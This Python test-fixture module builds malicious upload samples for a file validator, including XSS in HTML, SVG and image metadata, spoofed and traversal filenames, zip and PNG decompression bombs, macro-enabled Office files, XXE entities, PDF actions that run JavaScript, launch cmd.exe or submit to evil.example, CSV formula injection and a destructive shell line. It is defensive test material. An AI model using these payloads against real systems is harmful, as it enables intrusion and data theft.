"""Files that somebody might send to harm others: what is refused with a sentence, and what is taken because it is harmless where it is opened.

All are made here, small, without anything that could hurt whoever runs the tests. SCRIPT is what would show itself if anything of them ever ran.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.support.clamd import EICAR

SCRIPT = "top.hacked=1;parent.hacked=1;window.hacked=1;alert('hacked')"
HTML = f'<!doctype html><html><body onload="{SCRIPT}"><script>{SCRIPT}</script></body></html>'.encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script></svg>'.encode()
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
EXE = b"MZ\x90\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
MOST = 1024 * 1024
NEVER_TAKEN = """
    svg svgz html htm xhtml shtml mht js mjs vbs wsf hta exe dll scr bat cmd ps1 sh jar swf php jsp aspx py xml xsl docm xlsm pptm dotm doc xls rtf zip rar 7z
    iso lnk url gif webp bmp tiff ico heic mp4 eml odt
"""


@dataclass(frozen=True)
class Hostile:
    """One file. `refused`: whether it must be; if not, it is taken and must be harmless."""

    why: str
    name: str
    content: bytes
    refused: bool


def all_of_them() -> list[Hostile]:
    """Every file, each with a name of its own in `why`."""
    found = [*_kinds(), *_names(), *_lies(), *_archives(), *_pictures(), *_documents(), *_texts()]
    assert len({one.why for one in found}) == len(found)
    return found


def _kinds() -> Iterator[Hostile]:
    """Kinds that are never taken, whatever is in them."""
    for ending in NEVER_TAKEN.split():
        yield Hostile(f"kind {ending}", f"letter.{ending}", SVG if "svg" in ending else HTML, refused=True)
    yield Hostile("no ending", "letter", HTML, refused=True)
    yield Hostile("only dots", "...", HTML, refused=True)


def _names() -> Iterator[Hostile]:
    for why, name in (
        ("double ending exe", "photo.jpg.exe"),
        ("double ending js", "letter.pdf.js"),
        ("spaces before the ending", "photo.jpg          .exe"),
        ("right-to-left override exe", "invoice\u202efdp.exe"),
        ("nul in the name", "photo.jpg\x00.html"),
        ("path behind a picture", "photo.jpg/../../x.html"),
        ("windows path", "..\\..\\boot.ini"),
        ("data stream", "photo.jpg::$DATA"),
        ("full-width dot", "letter\uff0ehtml"),
        ("ending in other letters", "letter.ｈｔｍｌ"),
    ):
        yield Hostile(why, name, HTML, refused=True)
    words = b"Some words.\n"
    for why, name in (
        ("path upwards", "../../etc/passwd.txt"),
        ("drive and path", "C:\\Users\\x\\plan.txt"),
        ("device name", "con.txt"),
        ("300 characters", "a" * 300 + ".txt"),
        ("right-to-left override", "annex\u202efdp.txt"),
        ("quote and second name", 'a";filename="evil.html.txt'),
        ("line end and header", "a\r\nSet-Cookie: x=1.txt"),
        ("script as a name", "<script>alert(1)<script>.txt"),
        ("arabic name", "خطة.txt"),
        ("emoji name", "plan \U0001f600.txt"),
        ("hidden file", ".htaccess.txt"),
        ("option", "-rf.txt"),
        ("encoded path", "%2e%2e%2fx.txt"),
        ("semicolon", "a.html;.txt"),
        ("upper case", "PLAN.TXT"),
    ):
        yield Hostile(why, name, words, refused=False)


def _lies() -> Iterator[Hostile]:
    """What is not what its name says."""
    jpeg, png, gif = picture("JPEG"), picture("PNG"), picture("GIF")
    for why, name, content in (
        ("html as jpg", "a.jpg", HTML),
        ("html as png", "a.png", HTML),
        ("html as pdf", "a.pdf", HTML),
        ("html as docx", "a.docx", HTML),
        ("svg as png", "a.png", SVG),
        ("svg as jpeg", "a.jpeg", SVG),
        ("program as jpg", "a.jpg", EXE),
        ("program as pdf", "a.pdf", EXE),
        ("program as txt", "a.txt", EXE),
        ("program as docx", "a.docx", EXE),
        ("elf as csv", "a.csv", ELF),
        ("png as jpg", "a.jpg", png),
        ("jpg as png", "a.png", jpeg),
        ("gif as png", "a.png", gif),
        ("jpg as txt", "a.txt", jpeg),
        ("jpg as pdf", "a.pdf", jpeg),
        ("pdf as docx", "a.docx", pdf()),
        ("pdf as txt", "a.txt", pdf()),
        ("docx as xlsx", "a.xlsx", office("word")),
        ("xlsx as docx", "a.docx", office("xl")),
        ("docx as jpg", "a.jpg", office("word")),
        ("docx as csv", "a.csv", office("word")),
        ("old word as docx", "a.docx", OLE),
        ("rtf as docx", "a.docx", b"{\\rtf1 hello}"),
        ("rtf as txt", "a.txt", b"{\\rtf1 {\\object\\objdata 00}}"),
        ("gz as csv", "a.csv", b"\x1f\x8b\x08\x00" + b"\x00" * 30),
        ("7z as docx", "a.docx", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 30),
        ("flash as pdf", "a.pdf", b"FWS\x05" + b"\x00" * 40),
        ("postscript as pdf", "a.pdf", b"%!PS-Adobe-3.0\n"),
        ("script before a pdf", "a.pdf", b"<script>alert(1)</script>" + pdf()),
        ("php before a jpg", "a.jpg", b"<?php x(); ?>" + jpeg),
        ("nothing", "a.txt", b""),
        ("too large", "a.txt", b"x" * (MOST + 1)),
        ("nul in a text", "a.txt", b"a\x00b"),
        ("utf-16 text", "a.txt", "<script>".encode("utf-16")),
        ("text that is no utf-8", "a.txt", b"caf\xe9"),
    ):
        yield Hostile(why, name, content, refused=True)


def _archives() -> Iterator[Hostile]:
    for why, content in (
        ("claims a gigabyte", office("word", claims=1_000_000_000)),
        ("truly unpacks to 210 MB", office("word", zeros=210)),
        ("2,001 parts", office("word", **{f"word/p{n}.xml": b"" for n in range(2_001)})),
        ("path upwards inside", office("word", **{"word/../../../x.xml": b"x"})),
        ("windows path inside", office("word", **{"word\\..\\..\\x.xml": b"x"})),
        ("absolute path inside", office("word", **{"/etc/x.xml": b"x"})),
        ("word macros", office("word", **{"word/vbaProject.bin": OLE})),
        ("macros in other letters", office("word", **{"word/VBAPROJECT.BIN": OLE})),
        ("macros elsewhere", office("word", **{"customXml/vbaData.xml": b"x"})),
        ("macros by their kind", office("word", kinds=b"<x ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>")),
        ("active controls", office("word", **{"word/activeX/activeX1.bin": OLE})),
        ("cut off", office("word")[:-30]),
        ("directory spoilt", office("word").replace(b"PK\x01\x02", b"PK\x01\x03")),
        ("html in front", HTML + office("word")),
        ("locked parts", office("word").replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01")),
        ("a jar", archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe"})),
        ("an empty archive", archive({})),
    ):  # fmt: skip
        yield Hostile(f"docx: {why}", "a.docx", content, refused=True)
    yield Hostile("xlsx: macros", "a.xlsx", office("xl", **{"xl/vbaProject.bin": OLE}), refused=True)
    yield Hostile("pptx: macros", "a.pptx", office("ppt", **{"ppt/vbaProject.bin": OLE}), refused=True)
    entity = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><w:document>&a;</w:document>'
    laughs = b'<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document>&b;</w:document>'
    yield Hostile("docx: outer entity", "a.docx", office("word", **{"word/more.xml": entity}), refused=False)
    yield Hostile("docx: billion laughs", "a.docx", office("word", **{"word/more.xml": laughs}), refused=False)
    inner = archive({"x": b"\x00" * 100_000})
    yield Hostile("docx: archive inside", "a.docx", office("word", **{"word/embeddings/a.zip": inner}), refused=False)
    yield Hostile("docx: html inside", "a.docx", office("word", **{"word/a.html": HTML}), refused=False)


def _pictures() -> Iterator[Hostile]:
    jpeg, png, moving = picture("JPEG"), picture("PNG"), io.BytesIO()
    frames = [Image.new("RGB", (8, 8), colour) for colour in ("red", "green", "blue")]
    frames[0].save(moving, "PNG", save_all=True, append_images=frames[1:])
    for why, name, content in (
        ("moving", "a.png", moving.getvalue()),
        ("900 megapixels", "a.png", png_of(30_000, 30_000)),
        ("claims 2 gigapixels", "a.png", png_of(2**31 - 1, 1, data=b"")),
        ("jpeg claims 65,500 a side", "a.jpg", with_jpeg_size(jpeg, 65_500)),
        ("no width", "a.png", png_of(0, 10, data=b"")),
        ("png cut off", "a.png", png[:60]),
        ("jpeg cut off", "a.jpg", picture("JPEG", side=200)[:700]),
        ("only a head", "a.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"),
        ("no picture inside", "a.png", png_of(10, 10, data=b"")),
        ("spoilt check sum", "a.png", png.replace(b"IDAT", b"IDAX", 1)),
        ("compressed text bomb", "a.png", png_with(b"zTXt", b"x\x00\x00" + zlib.compress(b"\x00" * 80_000_000, 9))),
    ):
        yield Hostile(f"picture: {why}", name, content, refused=True)
    place = Image.Exif()
    place[0x010E], place[0x010F], place[0x8825] = SCRIPT, "SecretPhoneMaker", {1: "N", 2: (51.0, 30.0, 0.0)}
    said = PngInfo()
    said.add_text("Comment", SCRIPT)
    said.add_itxt("XML:com.adobe.xmp", SCRIPT)
    for why, name, content in (
        ("html behind a jpeg", "a.jpg", jpeg + HTML),
        ("archive behind a jpeg", "a.jpg", jpeg + archive({"x": b"x"})),
        ("html behind a png", "a.png", png + HTML),
        ("script as a comment", "a.jpg", with_segment(jpeg, 0xFE, b"*/" + SCRIPT.encode())),
        ("jpeg and script at once", "a.jpg", with_segment(jpeg, 0xFE, b"*/=1;" + SCRIPT.encode() + b"/*")),
        ("place and maker", "a.jpg", picture("JPEG", exif=place)),
        ("iptc", "a.jpg", with_segment(jpeg, 0xED, b"Photoshop 3.0\x008BIM\x04\x04" + SCRIPT.encode())),
        ("xmp", "a.jpg", with_segment(jpeg, 0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + SCRIPT.encode())),
        ("colour profile", "a.jpg", with_segment(jpeg, 0xE2, b"ICC_PROFILE\x00\x01\x01" + SCRIPT.encode())),
        ("words in a png", "a.png", picture("PNG", pnginfo=said)),
        ("colours of print", "a.jpg", picture("JPEG", mode="CMYK")),
        ("16 bit grey", "a.png", picture("PNG", mode="I;16")),
        ("palette", "a.png", picture("PNG", mode="P")),
        ("progressive", "a.jpg", picture("JPEG", progressive=True)),
        ("two endings", "a.html.jpg", jpeg),
    ):
        yield Hostile(f"picture: {why}", name, content, refused=False)


def _documents() -> Iterator[Hostile]:
    for why, more in (
        ("script at opening", f"/OpenAction << /S /JavaScript /JS ({SCRIPT}) >>"),
        ("starts a program", "/OpenAction << /S /Launch /F (cmd.exe) >>"),
        ("address with a script", f"/OpenAction << /S /URI /URI (javascript:{SCRIPT}) >>"),
        ("sends a form", "/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
        ("file inside", "/Names << /EmbeddedFiles << /Names [(x.exe) << /Type /Filespec >>] >> >>"),
    ):
        yield Hostile(f"pdf: {why}", "a.pdf", pdf(more), refused=False)
    yield Hostile("pdf: html behind", "a.pdf", pdf() + HTML, refused=False)
    yield Hostile("pdf: html at once", "a.pdf", b"%PDF-1.4 <script>" + SCRIPT.encode() + b"</script>\n", refused=False)
    yield Hostile("pdf: cut off", "a.pdf", pdf()[:40], refused=False)


def _texts() -> Iterator[Hostile]:
    for why, name, content in (
        ("html", "a.txt", HTML),
        ("svg", "a.txt", SVG),
        ("script", "a.txt", SCRIPT.encode()),
        ("style sheet", "a.txt", b"body{background:url(/hacked)}"),
        ("html as a table", "a.csv", HTML),
        ("formulas", "a.csv", b"=cmd|'/C calc'!A0,+1,-1,@SUM(1)\n"),
        ("utf-7", "a.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
        ("mark in front", "a.txt", b"\xef\xbb\xbf" + HTML),
        ("what scanners know", "a.txt", EICAR),
        ("shell", "a.txt", b"#!/bin/sh\nrm -rf x\n"),
        ("json", "a.txt", b'[{"secret": 1}]'),
        ("saved answer", "a.txt", b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n" + HTML),
    ):
        yield Hostile(f"text: {why}", name, content, refused=False)


def picture(kind: str, *, side: int = 12, mode: str = "RGB", **options: object) -> bytes:
    """A picture as a program would save it."""
    made = io.BytesIO()
    Image.effect_noise((side, side), 50).convert("RGB" if mode == "P" else "L").convert(mode).save(
        made, kind, **options
    )
    return made.getvalue()


def with_segment(jpeg: bytes, marker: int, words: bytes) -> bytes:
    """A JPEG with one more segment behind its first mark."""
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack("!H", len(words) + 2) + words + jpeg[2:]


def with_jpeg_size(jpeg: bytes, side: int) -> bytes:
    """A JPEG that claims this many pixels a side."""
    at = jpeg.index(b"\xff\xc0")
    return jpeg[: at + 5] + struct.pack("!HH", side, side) + jpeg[at + 9 :]


def png_of(width: int, height: int, data: bytes | None = None) -> bytes:
    """A PNG of one colour, one bit for each pixel, without making it in memory."""
    squeeze = zlib.compressobj(9)
    row = b"\x00" * ((width + 7) // 8 + 1)
    body = data if data is not None else b"".join(squeeze.compress(row) for _ in range(height)) + squeeze.flush()
    head = _chunk(b"IHDR", struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def png_with(kind: bytes, words: bytes) -> bytes:
    """A PNG with one more part in front of its pixels."""
    png = picture("PNG")
    at = png.index(b"IDAT") - 4
    return png[:at] + _chunk(kind, words) + png[at:]


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))


def archive(parts: dict[str, bytes]) -> bytes:
    """A zip of these parts."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as written:
        for name, content in parts.items():
            written.writestr(name, content)
    return made.getvalue()


def office(inside: str, *, claims: int = 0, zeros: int = 0, kinds: bytes = b"<x/>", **more: bytes) -> bytes:
    """A document of an office program. `claims`: how many bytes its last part says that it unpacks to; `zeros`: megabytes of nothing in it."""
    made = archive({"[Content_Types].xml": kinds, f"{inside}/document.xml": b"<w:document/>", **more})
    if zeros:
        held = io.BytesIO(made)
        with zipfile.ZipFile(held, "a", zipfile.ZIP_DEFLATED) as written, written.open(f"{inside}/z.bin", "w") as part:
            for _ in range(zeros):
                part.write(bytes(1024 * 1024))
        made = held.getvalue()
    if claims:
        at = made.rindex(b"PK\x01\x02")
        made = made[: at + 24] + struct.pack("<I", claims) + made[at + 28 :]
    return made


def pdf(more: str = "") -> bytes:
    """A PDF of one empty page. `more`: what else its root says."""
    parts = [
        f"1 0 obj << /Type /Catalog /Pages 2 0 R {more} >> endobj",
        "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj",
        "3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] >> endobj",
    ]
    return ("%PDF-1.4\n" + "\n".join(parts) + "\ntrailer << /Root 1 0 R >>\n%%EOF\n").encode()
